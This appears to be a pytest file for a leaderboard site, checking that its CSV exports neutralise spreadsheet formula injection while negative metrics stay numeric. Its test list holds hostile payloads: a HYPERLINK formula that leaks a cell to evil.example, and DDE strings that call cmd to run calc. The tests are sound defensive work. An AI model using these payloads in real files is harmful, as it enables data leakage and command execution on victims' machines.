"""Every CSV the site writes reaches a spreadsheet as data: a cell that would start a formula gets a
leading apostrophe, while numbers (negative ones included) stay numbers."""
from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

import leaderboard
from leaderboard.exports import spreadsheet_safe

pytestmark = pytest.mark.django_db

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-1",
]
HARMLESS_NAMES = ["resnet-18 (=baseline)", "a+b", "plain name", "’quoted’", "ＨＹＰＥＲＬＩＮＫ", "1e-3 lr"]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_cell_that_would_start_a_formula_is_written_as_text(name):
    assert spreadsheet_safe(name) == "'" + name


@pytest.mark.parametrize("value", [*HARMLESS_NAMES, -0.29, -3, 0, 1.5e-9, True, None])
def test_other_cells_and_every_number_pass_unchanged(value):
    assert spreadsheet_safe(value) == value


def _finish_all(runner_api, finish_job, sub, loss):
    for job in sub.jobs.select_related("task"):
        finish_job(runner_api, job, final_loss=loss)


def test_the_board_csv_neutralises_hostile_names_and_families_but_keeps_negative_metrics_numeric(
        client, alice, make_submission, runner_api, finish_job, settings):
    settings.SUBMISSIONS_PER_DAY = settings.SUBMISSIONS_CONCURRENT = 100
    for i, name in enumerate(HOSTILE_NAMES + HARMLESS_NAMES):
        sub = make_submission(alice, name=name, model_family=name)
        _finish_all(runner_api, finish_job, sub, 0.01 + i / 1000)
    rows = list(csv.DictReader(io.StringIO(client.get("/b/opt-synthetic/export.csv?task=opt-f1").getvalue().decode(),
                                           newline="")))
    exported = sorted((r["name"], r["model_family"]) for r in rows)
    # names are stored stripped ("\t=1+1" is named "=1+1"), families as given
    assert exported == sorted([("'" + name.strip(), "'" + name) for name in HOSTILE_NAMES]
                              + [(name, name) for name in HARMLESS_NAMES])
    # the synthetic results keep the final x negative (-0.29): a real negative number, not a formula
    assert {float(r["final_x"]) for r in rows} == {-0.29}
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for k, cell in r.items()
                   if k != "final_x")


def test_the_submission_csv_keeps_negative_metrics_numeric(client, alice, make_submission, runner_api, finish_job):
    sub = make_submission(alice, name="=1+1")
    _finish_all(runner_api, finish_job, sub, 0.01)
    rows = list(csv.DictReader(io.StringIO(client.get(f"/s/{sub.pk}/export.csv").content.decode())))
    assert {float(r["value"]) for r in rows if r["metric"] == "final_x"} == {-0.29}


def test_every_csv_the_site_writes_goes_through_the_one_helper():
    root = Path(leaderboard.__file__).parent
    writers = sorted(str(p.relative_to(root)) for p in root.rglob("*.py")
                     if re.search(r"\bcsv\.(writer|DictWriter)\b", p.read_text()))
    assert writers == ["exports.py"]
